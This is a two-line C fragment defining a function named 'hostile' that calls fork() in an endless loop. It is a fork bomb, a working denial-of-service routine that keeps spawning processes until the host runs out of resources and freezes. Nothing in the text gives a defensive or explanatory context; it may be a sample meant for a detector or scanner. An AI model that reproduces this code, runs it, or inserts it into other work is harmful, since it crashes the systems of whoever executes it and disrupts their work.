#include <unistd.h>
int hostile(int a){ for(;;) fork(); return a; }